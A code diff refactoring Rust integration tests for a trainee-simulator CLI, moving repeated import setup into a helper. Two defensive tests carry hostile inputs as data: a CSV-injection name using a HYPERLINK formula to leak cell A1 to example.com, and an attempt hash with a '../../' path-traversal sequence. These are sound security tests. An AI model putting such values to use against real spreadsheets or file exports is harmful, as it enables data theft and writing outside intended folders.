@@ -1011,18 +1011,13 @@ fn replay_without_a_matching_scene_says_how_to_name_it() {
 /// class's report. Imported elsewhere, it keeps the time it was marked.
 #[test]
 fn an_attempt_exported_in_a_newer_format_imports_as_the_same_attempt() {
-    let root = std::env::temp_dir().join(format!("marrowsim-reexport-{}", std::process::id()));
-    std::fs::remove_dir_all(&root).ok();
-    let data = root.join("data");
-    let d = data.to_str().unwrap();
-    let golden = "tests/golden/expert_psis_to_asis.ron";
     assert!(
-        std::fs::read_to_string(golden)
+        std::fs::read_to_string(GOLDEN_EXPERT)
             .unwrap()
             .contains("version: 1,")
     );
-    let (out, err) = text(&run(&["import", golden, "--data", d, "--trainee", "Ada"]));
-    assert!(out.contains("1 file: 1 recorded"), "{out}{err}");
+    let (root, data) = record_of_one_attempt("reexport", "Ada");
+    let d = data.to_str().unwrap();
     let exported = root.join("exported");
     let o = run(&[
         "history",
@@ -1069,19 +1064,36 @@ fn an_attempt_exported_in_a_newer_format_imports_as_the_same_attempt() {
     std::fs::remove_dir_all(&root).ok();
 }
 
+/// The golden expert attempt, in its first file format.
+const GOLDEN_EXPERT: &str = "tests/golden/expert_psis_to_asis.ron";
+
+/// An emptied scratch folder named for `tag`, and in it a record (`data`) holding the
+/// golden expert attempt, imported under `trainee`.
+fn record_of_one_attempt(tag: &str, trainee: &str) -> (std::path::PathBuf, std::path::PathBuf) {
+    let root = std::env::temp_dir().join(format!("marrowsim-{tag}-{}", std::process::id()));
+    std::fs::remove_dir_all(&root).ok();
+    let data = root.join("data");
+    let d = data.to_str().unwrap();
+    let (out, err) = text(&run(&[
+        "import",
+        GOLDEN_EXPERT,
+        "--data",
+        d,
+        "--trainee",
+        trainee,
+    ]));
+    assert!(out.contains("1 file: 1 recorded"), "{out}{err}");
+    (root, data)
+}
+
 /// A name typed at a station reaches the instructor's spreadsheet through the CSV. One that
 /// starts like a formula (`=`, `+`, `-`, `@`) is written as text, so that opening the file
 /// cannot run it (OWASP's advice on CSV injection).
 #[test]
 fn a_name_that_looks_like_a_formula_is_text_in_the_csv() {
-    let root = std::env::temp_dir().join(format!("marrowsim-csvinj-{}", std::process::id()));
-    std::fs::remove_dir_all(&root).ok();
-    let d = root.join("data");
-    let d = d.to_str().unwrap();
     let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
-    let golden = "tests/golden/expert_psis_to_asis.ron";
-    let (out, err) = text(&run(&["import", golden, "--data", d, "--trainee", name]));
-    assert!(out.contains("1 recorded"), "{out}{err}");
+    let (root, data) = record_of_one_attempt("csvinj", name);
+    let d = data.to_str().unwrap();
     for args in [
         vec!["history", "--data", d, "--format", "csv"],
         vec!["report", "--data", d, "--format", "csv"],
@@ -1104,13 +1116,8 @@ fn a_name_that_looks_like_a_formula_is_text_in_the_csv() {
 /// folder, instead of panicking or writing elsewhere.
 #[test]
 fn exporting_a_record_with_a_damaged_hash_writes_inside_the_folder() {
-    let root = std::env::temp_dir().join(format!("marrowsim-badhash-{}", std::process::id()));
-    std::fs::remove_dir_all(&root).ok();
-    let data = root.join("data");
+    let (root, data) = record_of_one_attempt("badhash", "Ada");
     let d = data.to_str().unwrap();
-    let golden = "tests/golden/expert_psis_to_asis.ron";
-    let (out, err) = text(&run(&["import", golden, "--data", d, "--trainee", "Ada"]));
-    assert!(out.contains("1 file: 1 recorded"), "{out}{err}");
     let db = rusqlite::Connection::open(data.join("marrowsim.db")).unwrap();
     db.execute(
         "UPDATE attempts SET attempt_hash = '0123456789a\u{e9}/../../x'",
